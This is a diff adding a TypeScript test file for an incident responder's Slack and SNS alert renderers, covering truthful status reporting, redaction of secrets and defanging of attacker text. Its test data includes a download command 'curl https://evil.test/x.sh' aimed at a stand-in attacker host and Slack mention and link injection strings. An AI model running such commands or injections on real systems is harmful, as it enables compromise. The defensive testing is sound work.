@@ -1,0 +1,223 @@
+import { readFileSync } from "node:fs";
+import { Ajv2020 } from "ajv/dist/2020.js";
+import fc from "fast-check";
+import { describe, expect, test } from "vitest";
+import { renderSlack, SLACK_LIMITS } from "#shared/notify/slack.ts";
+import { renderSns, SNS_LIMITS } from "#shared/notify/sns.ts";
+import { ALERT, anyView, decision, POD, receipt, TASK, view } from "./views.ts";
+
+const schema: unknown = JSON.parse(readFileSync(new URL("../../infra/schemas/notification.json", import.meta.url), "utf8"));
+const ajv = new Ajv2020({ strict: true, allowUnionTypes: true, formats: { "date-time": true, uri: true } });
+const valid = ajv.compile(schema as object);
+
+const slackText = (one: Parameters<typeof renderSlack>[0]) => JSON.stringify(renderSlack(one));
+/** mrkdwn outside code spans. */
+const outsideCode = (text: string) => text.replace(/`[^`]*`/g, "");
+const mrkdwns = (one: Parameters<typeof renderSlack>[0]) =>
+  renderSlack(one)
+    .blocks.flatMap((block) => (block.type === "section" ? [block.text] : block.type === "context" ? block.elements : []))
+    .map((text) => text.text);
+
+describe("the report is true", () => {
+  const says = (one: Parameters<typeof renderSns>[0]) => `${renderSns(one).subject}\n${renderSns(one).text}`;
+
+  test("a stop that is only accepted is never called stopped, one that is verified is", () => {
+    const accepted = says(view({ receipts: [receipt("requested")] }));
+    expect(accepted).toContain("requested, not confirmed");
+    expect(accepted).not.toContain("Task stopped");
+    expect(accepted).not.toContain("All containers of this task have stopped");
+    const done = says(view({ receipts: [receipt("done")] }));
+    expect(done).toContain("Task stopped");
+    expect(done).toContain("done and verified, 4.2 s after the alert");
+  });
+
+  test("observe says what would have been done and that nothing was touched", () => {
+    const text = says(view({ decisions: [decision("would-act")] }));
+    expect(text).toContain("would have stopped the task");
+    expect(text).toContain("Nothing was touched");
+    expect(text).not.toContain("Task stopped");
+  });
+
+  test.each([
+    ["hold", "Held, nothing touched", "nothing happens until a person decides"],
+    ["await-approval", "Waiting for approval", "nothing happens until a person decides"],
+    ["act", "no result yet", "A second message tells the outcome"],
+  ] as const)("a decision to %s without receipt says %s", (kind, headline, meaning) => {
+    const text = says(view({ decisions: [decision(kind, "ecs:stop-task", "because of the test")] }));
+    expect(text).toContain(headline);
+    expect(text).toContain(meaning);
+    expect(text).toContain("because of the test");
+  });
+
+  test.each([
+    ["failed", "FAILED to stop the task", "was not touched by this action"],
+    ["unknown", "UNKNOWN whether the task was stopped", "Treat it as still running"],
+    ["refused", "Not stopped", "was not touched by this action"],
+    ["skipped", "Nothing left to do", "already ended"],
+  ] as const)("the outcome %s says %s", (outcome, headline, meaning) => {
+    const text = says(view({ receipts: [receipt(outcome)] }));
+    expect(text).toContain(headline);
+    expect(text).toContain(meaning);
+  });
+
+  test("what a stop does not cut is said: stolen credentials, and the replacement that a service starts", () => {
+    const text = says(view({ receipts: [receipt("done")] }));
+    expect(text).toContain("NOT cut off: credentials of the task role");
+    expect(text).toContain("ECS starts a replacement");
+    expect(says(view({ receipts: [receipt("done")], workload: { ...TASK, service: null } }))).not.toContain("ECS starts a replacement");
+  });
+
+  test("a deleted pod names its controller; a bare one does not come back", () => {
+    const pod = {
+      cluster: { name: "shop", kind: "eks", awsName: "shop", region: "eu-west-1" } as const,
+      receipts: [receipt("done", "kubernetes:terminate")],
+      decisions: [decision("act", "kubernetes:terminate")],
+    };
+    expect(says(view({ ...pod, workload: POD }))).toContain("Its Deployment makes a replacement");
+    expect(says(view({ ...pod, workload: { ...POD, owner: null } }))).toContain("does not come back by itself");
+  });
+
+  test("the worst of several outcomes is the headline", () => {
+    expect(renderSns(view({ receipts: [receipt("done"), receipt("unknown")] })).attributes.outcome).toBe("unknown");
+    expect(renderSns(view({ receipts: [receipt("done")] })).attributes.outcome).toBe("done");
+  });
+
+  test("an unverified container is called a claim, a verified task is not", () => {
+    expect(says(view({ workload: null, decisions: [decision("hold")] }))).toContain("Not verified; the alert claims container");
+    expect(says(view())).not.toContain("Not verified");
+  });
+
+  test("a line from an unregistered stream says so and what to do, a registered one does not", () => {
+    const accuser = { account: "1", logGroup: "/other", logStream: "s", eventId: "1", verified: false, because: "no entry binds /other" };
+    expect(says(view({ accuser, workload: null, decisions: [] }))).toContain("who can write to this log stream");
+    expect(says(view({ accuser: { ...accuser, verified: true, because: null }, workload: null, decisions: [] }))).not.toContain(
+      "who can write",
+    );
+  });
+});
+
+describe("what a person can do next", () => {
+  test("the log event and the task are linked in Slack", () => {
+    const text = slackText(view());
+    expect(text).toContain(
+      "https://eu-west-1.console.aws.amazon.com/cloudwatch/home?region=eu-west-1#logsV2:log-groups/log-group/$252Ffalco$252Fprod/log-events/falco$252Ffalco$252Fabc$3FrefEventId$3D3756|open the log event>",
+    );
+    expect(text).toContain("/ecs/v2/clusters/payments-prod/tasks/0123456789abcdef0123456789abcdef/");
+  });
+
+  test("a held task comes with the command that stops it, a stopped one with the search for its replacement", () => {
+    const held = renderSns(view({ decisions: [decision("hold")] })).text;
+    expect(held).toContain(
+      "aws ecs stop-task --cluster arn:aws:ecs:eu-west-1:123456789012:cluster/payments-prod --region eu-west-1 --task arn:",
+    );
+    const stopped = renderSns(view({ receipts: [receipt("done")] })).text;
+    expect(stopped).toContain("aws ecs list-tasks");
+    expect(stopped).not.toContain("stop-task --cluster");
+  });
+
+  test("similar alerts are counted", () => {
+    expect(renderSns(view({ count: 41, lastAlertAtMs: (ALERT.timeMs ?? 0) + 90_000 })).text).toContain(
+      "41 similar alerts so far within 2 min",
+    );
+    expect(renderSns(view()).text).not.toContain("similar alerts");
+  });
+});
+
+describe("texts of others do nothing", () => {
+  const trick = "`<!channel>` <https://evil.test|ok> & @here \u202e\u001b[31m\n# *x*";
+
+  test("in Slack they stand in code spans that they cannot leave", () => {
+    const one = view({
+      alert: { ...ALERT, rule: trick, fields: { "proc.cmdline": trick } },
+      decisions: [decision("hold", "ecs:stop-task", trick)],
+      rule: trick,
+    });
+    for (const text of mrkdwns(one)) {
+      expect(text.replace(/[^`]/g, "").length % 2).toBe(0);
+      expect(outsideCode(text)).not.toMatch(/evil|<!|@here|\*x/);
+    }
+    expect(slackText(one)).not.toMatch(/<!|<https:..evil|\u202e|\\u001b/);
+  });
+
+  test("in mail a link of an attacker is no link, ours is one", () => {
+    const { text } = renderSns(view({ alert: { ...ALERT, fields: { "proc.cmdline": "curl https://evil.test/x.sh" } } }));
+    expect(text).toContain("curl hxxps[:]//evil.test/x.sh");
+    expect(text).toContain("https://eu-west-1.console.aws.amazon.com/");
+  });
+
+  test("secrets are gone from every form, the command stays readable", () => {
+    const secret = "hunter2hunter2";
+    const fields = {
+      "proc.cmdline": `mysql -u root -p${secret} app`,
+      "proc.env[DB_PASSWORD]": secret,
+      "fd.name": `https://u:${secret}@h/x`,
+    };
+    const one = view({
+      alert: { ...ALERT, output: `shell (command=mysql --password=${secret})`, fields },
+      receipts: [receipt("failed", "ecs:stop-task", `token=${secret}`)],
+    });
+    for (const text of [slackText(one), JSON.stringify(renderSns(one))]) {
+      expect(text).not.toContain(secret);
+      expect(text).toContain("mysql -u root -p[redacted] app");
+    }
+  });
+});
+
+function checkHeader(text: string) {
+  expect(text.length).toBeGreaterThan(0);
+  expect(text.length).toBeLessThanOrEqual(SLACK_LIMITS.header);
+  expect(text).not.toMatch(/[\n\r\u202e\u200b<>]|:\/\//);
+}
+
+function checkMrkdwn(text: string) {
+  expect(text.length).toBeGreaterThan(0);
+  expect(text.length).toBeLessThanOrEqual(SLACK_LIMITS.section);
+  expect(text.isWellFormed()).toBe(true);
+  for (const line of text.split("\n")) expect(line.replace(/[^`]/g, "").length % 2).toBe(0);
+  for (const [link] of text.matchAll(/<[^>]*>/g))
+    expect(link).toMatch(/^<https:\/\/[a-z0-9-]+\.console\.(aws\.amazon\.com|amazonaws[a-z.-]*)\/[^\s<>|]+\|[\w ]+>$/);
+  expect(text.replace(/<[^>]*>/g, "")).not.toMatch(/[<>]|&(?!amp;|lt;|gt;)/);
+}
+
+describe("whatever an alert says", () => {
+  test("Slack's payload is within its limits, linked nowhere but to the console, with even backticks", () => {
+    fc.assert(
+      fc.property(anyView, (one) => {
+        const payload = renderSlack(one);
+        expect(payload.blocks.length).toBeLessThanOrEqual(SLACK_LIMITS.blocks);
+        expect(payload.text.length).toBeGreaterThan(0);
+        expect(payload.text.length).toBeLessThanOrEqual(SLACK_LIMITS.text);
+        expect(payload.text).not.toMatch(/[<>]|:\/\/|[\n\r]/);
+        for (const block of payload.blocks) {
+          if (block.type === "header") checkHeader(block.text.text);
+          if (block.type === "section") checkMrkdwn(block.text.text);
+          if (block.type === "context") for (const element of block.elements) checkMrkdwn(element.text);
+        }
+        expect(JSON.stringify(payload)).not.toContain("hunter2hunter2");
+      }),
+      { numRuns: 100 },
+    );
+  });
+
+  test("SNS's message is within its limits, valid by the published schema, and filterable", () => {
+    fc.assert(
+      fc.property(anyView, (one) => {
+        const { subject, text, body, attributes } = renderSns(one);
+        expect(subject).toMatch(/^[\x20-\x7e]{1,99}$/);
+        expect(subject).toMatch(/^[A-Za-z0-9]/);
+        const document: unknown = JSON.parse(body);
+        expect(valid(document), JSON.stringify(valid.errors)).toBe(true);
+        expect(
+          Buffer.byteLength(JSON.stringify({ default: body, email: text })) + Buffer.byteLength(JSON.stringify(attributes)),
+        ).toBeLessThan(SNS_LIMITS.bytes);
+        expect(text).not.toMatch(/(?<!: )https?:\/\//);
+        expect(text.isWellFormed()).toBe(true);
+        expect(text + body).not.toContain("hunter2hunter2");
+        expect(Object.keys(attributes)).toEqual(["incident", "phase", "cluster", "priority", "rule", "falcoRule", "decision", "outcome"]);
+        for (const attribute of Object.values(attributes))
+          expect(attribute.length > 0 && attribute.length <= 256 && !/\p{Cc}/u.test(attribute)).toBe(true);
+      }),
+      { numRuns: 100 },
+    );
+  });
+});
